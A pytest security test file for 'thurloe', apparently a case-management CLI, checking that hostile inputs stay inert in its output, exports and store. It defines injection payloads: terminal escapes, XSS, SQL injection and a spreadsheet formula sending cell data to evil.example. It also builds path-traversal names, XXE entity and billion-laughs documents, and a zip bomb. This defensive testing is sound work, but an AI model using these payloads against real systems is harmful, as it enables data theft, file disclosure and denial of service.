"""What hostile accounts carry in texts, names, headers and cells stays words in every output."""

import html
import io
import json
import re
import sqlite3
import zipfile
from email.header import Header
from html.parser import HTMLParser

import docx
import pytest
from typer.testing import CliRunner

from thurloe.case import new_case, open_case
from thurloe.cli.main import app
from thurloe.read import find_files, read_accounts

ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b1m\u202egnp\u2066\u200f"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)></title></script>{{7*7}}"
LINK = "[go](javascript:alert(3))"
SQL = 'x\'; DROP TABLE event; DELETE FROM blob WHERE "1"="1"; --'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"see")'
FORGED = "Ann\n    7  2026-01-01T00:00:00Z  Ann Lee: accepted everything"
EVERY = {"terminal": ESC, "markup": MARKUP, "link": LINK, "sql": SQL, "formula": FORMULA}
EVERY["forged"] = FORGED

# What a terminal would act on: C0 but for tab and end of line, C1, and what turns the direction.
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Tags(HTMLParser):
    """The tags of a page that run or load something, and attributes that do."""

    def __init__(self):
        super().__init__()
        self.found = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        if tag in {"img", "iframe", "object", "embed"}:
            self.found.append(tag)
        self.found += [
            name
            for name, value in attrs
            if name.startswith("on") or "javascript:" in (value or "").lower()
        ]


def csv_cell(text):
    return '"' + text.replace('"', '""') + '"'


def file_name(text):
    """The text as a file may be called: everything but a slash and a null."""
    return text.replace("/", "|").replace("\0", "")[:120]


@pytest.fixture(params=EVERY, scope="module")
def hostile(request):
    return EVERY[request.param]


@pytest.fixture(scope="module")
def folder(tmp_path_factory, hostile):
    """Accounts whose texts, names, sources, titles and mail headers are all hostile."""
    inside = tmp_path_factory.mktemp("in")
    said = " ".join(hostile.split())
    first = file_name(f"{hostile}.txt")
    (inside / first).write_text(
        f"{said}\n\nThe ferry Heron sank on 3 May 1962. Forty people died. {hostile}\n", "utf-8"
    )
    (inside / "b.txt").write_text(
        f"The ferry Heron sank on 4 May 1962. Fifty people died, said {said}.\n", "utf-8"
    )
    subject, sender = (Header(text, "utf-8").encode() for text in (said, said))
    (inside / "c.eml").write_text(
        f"From: {sender} <a@b.example>\nSubject: {subject}\nDate: Sat, 5 May 1962 10:00:00 +0000\n"
        f"Content-Type: text/plain; charset=utf-8\n\nThe ferry Heron sank on 3 May 1962.\n",
        "utf-8",
    )
    (inside / "d.html").write_text(
        f"<html><head><title>{html.escape(said)}</title></head><body><p>The ferry Heron sank on "
        f"3 May 1962. Sixty people died. {html.escape(hostile)}</p></body></html>",
        "utf-8",
    )
    (inside / "accounts.csv").write_text(
        f"file,source\nb.txt,{csv_cell(hostile)}\n", "utf-8", newline=""
    )
    return inside


@pytest.fixture(scope="module")
def case(folder, tmp_path_factory, hostile):
    path = tmp_path_factory.mktemp("case") / "heron.case"
    with new_case(path, title=hostile, by=hostile) as made:
        made.add(folder, because=hostile)
        made.grade(made.brief().sources[0].name, "B", because=hostile)
    return path


def run(*args, code=0):
    done = CliRunner().invoke(app, [str(a) for a in args])
    assert done.exit_code == code, done.output
    return done


COMMANDS = [
    ("brief",),
    ("brief", "--format", "md"),
    ("brief", "--format", "json"),
    ("brief", "--about", "Heron"),
    ("log",),
    ("log", "--json"),
    ("log", "--json", "--reveal"),
    ("review",),
    ("review", "--json"),
    ("search", "ferry"),
    ("search", "people died"),
    ("verify",),
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_nothing_that_is_printed_works_on_the_terminal(case, command):
    name, *more = command
    done = run("case", name, case, *more)
    assert ACTS.findall(done.stdout + done.stderr) == []
    assert "Heron" in done.stdout or name in {"log", "verify", "review"}


def test_no_line_of_the_log_is_forged(case):
    with open_case(case) as it:
        events = len(it.log())
    lines = run("case", "log", case).stdout.splitlines()
    assert len(lines) == events + 1
    assert [int(line.split()[0]) for line in lines[:-1]] == list(range(1, events + 1))


def test_adding_and_leaving_out_print_nothing_that_works_on_the_terminal(case, tmp_path, hostile):
    (tmp_path / file_name(f"{hostile}.pdf")).write_bytes(b"%PDF-1.7")
    done = run("case", "add", case, tmp_path, "-q", code=3)
    assert ACTS.findall(done.stdout + done.stderr) == []
    assert "left out" in done.stderr


def test_the_page_runs_nothing_of_theirs(case, tmp_path):
    run("case", "brief", case, "-o", tmp_path / "x.html", "-q")
    tags = Tags()
    tags.feed((tmp_path / "x.html").read_text("utf-8"))
    with new_case(tmp_path / "tame.case") as tame:
        (tmp_path / "tame.txt").write_text("By Ann Lee\n\nThe ferry Heron sank on 3 May 1962.\n")
        tame.add(tmp_path / "tame.txt")
    run("case", "brief", tmp_path / "tame.case", "-o", tmp_path / "tame.html", "-q")
    ours = Tags()
    ours.feed((tmp_path / "tame.html").read_text("utf-8"))
    assert (tags.found, tags.scripts) == (ours.found, ours.scripts)


def test_markdown_makes_no_link_and_no_tag_of_theirs(case):
    said = run("case", "brief", case, "--format", "md", "--without-texts").stdout
    assert "<script" not in said
    assert "<img" not in said
    assert re.findall(r"(?<!\\)\]\(javascript", said) == []


@pytest.mark.parametrize("form", ["csv", "jsonl", "graphml", "claimreview", "stix", "ftm"])
def test_exports_hold(case, tmp_path, form):
    with open_case(case) as it:
        it.export(tmp_path / "out", form=form)
    data = (tmp_path / "out").read_text("utf-8")
    assert "Heron" in data
    if form == "csv":
        cells = re.findall(r'"((?:[^"]|"")*)"', data)
        assert [cell for cell in cells if re.match(r"[=+\-@\t\r＝＋－＠]", cell)] == []


def test_the_store_is_whole(case, hostile):
    with open_case(case) as it:
        assert it.verify() == ()
        assert len(it.state().accounts) == 4
        for words in (hostile, f'"{hostile}"', f"{hostile}*", f"ferry {hostile}"):
            list(it.search(words))
        list(it.search("ferry NEAR(heron sank) OR text:* AND NOT"))
        assert it.verify() == ()
    with sqlite3.connect(case) as raw:
        assert raw.execute("SELECT count(*) FROM event").fetchone()[0] > 8
    raw.close()


def test_nothing_is_written_elsewhere(tmp_path):
    """Names in a mailbox, a mail, a listing and a table lead nowhere."""
    inside = tmp_path / "deep" / "in"
    inside.mkdir(parents=True)
    evil = "../../evil.txt"
    (inside / "a.eml").write_text(
        "From: a@b.example\nSubject: x\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\n'
        "The ferry Heron sank on 3 May 1962.\n--b\nContent-Type: application/octet-stream\n"
        f'Content-Disposition: attachment; filename="{evil}"\n\nboo\n--b--\n'
    )
    (inside / "b.mbox").write_text(
        "From ../../evil Sat May  5 10:00:00 1962\nFrom: ../../evil <../../e@x.example>\n"
        "Subject: ../../evil\n\nThe ferry Heron sank on 3 May 1962.\n"
    )
    (inside / "c.txt").write_text("The ferry Heron sank on 4 May 1962.\n")
    (inside / "accounts.csv").write_text(
        f"file,source,passed_on_from\n{evil},Eve,\n/etc/passwd,Eve,\nc.txt,{evil},{evil}\n"
    )
    (tmp_path / "t.csv").write_text(
        f"source,account,quote,attribute,value\n{evil},{evil},it sank,date,1962-05-03\n"
    )
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    with new_case(tmp_path / "x.case") as it:
        it.add(inside)
        it.take(tmp_path / "t.csv")
        files = [account.file for account in it.brief().accounts]
        assert not any(".." in file or file.startswith("/") for file in files)
        assert not any("root:" in account.text for account in it.brief().accounts)
    after = {str(p) for p in tmp_path.rglob("*")}
    assert {p for p in after - set(before) if "x.case" not in p} == set()


def word_file(path, body):
    """A DOCX whose document is this XML."""
    made = io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = body if item.filename == "word/document.xml" else old.read(item.filename)
            new.writestr(item, data)


def test_a_document_reads_no_file_and_grows_no_entities(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the harbour code is 4711")
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    told = "The ferry Heron sank on 3 May 1962."
    paragraph = f"<w:p><w:r><w:t>{told} &x;</w:t></w:r></w:p>"
    outside = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    laughs = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    grown = f'<!DOCTYPE d [<!ENTITY x0 "haha">{laughs}<!ENTITY x "&x9;">]>'
    folder = tmp_path / "in"
    folder.mkdir()
    for name, head in (("outside.docx", outside), ("grown.docx", grown)):
        document = f"<w:document {space}><w:body>{paragraph}</w:body></w:document>"
        word_file(folder / name, f'<?xml version="1.0"?>{head}{document}')
    reading = read_accounts(find_files([folder]))
    assert len(reading.accounts) + len(reading.left_out) == 2
    for account in reading.accounts:
        assert "4711" not in account.text
        assert len(account.text) < 1000


def test_a_zip_bomb_is_left_out(tmp_path):
    made = io.BytesIO()
    docx.Document().save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as bomb:
        for n in range(5):
            bomb.writestr(f"word/media/{n}.bin", bytes(64 << 20))
    (tmp_path / "bomb.docx").write_bytes(made.getvalue())
    assert len(made.getvalue()) < 1 << 20
    reading = read_accounts(find_files([tmp_path / "bomb.docx"]))
    assert reading.accounts == ()
    assert "which no document needs and an attack would" in reading.left_out[0].why


def test_json_says_the_very_characters(case, hostile):
    """What a terminal acts on is escaped, not lost."""
    printed = json.loads(run("case", "brief", case, "--format", "json").stdout)
    texts = {s["name"] for s in printed["sources"]}
    assert any(" ".join(hostile.split())[:5] in name for name in texts)
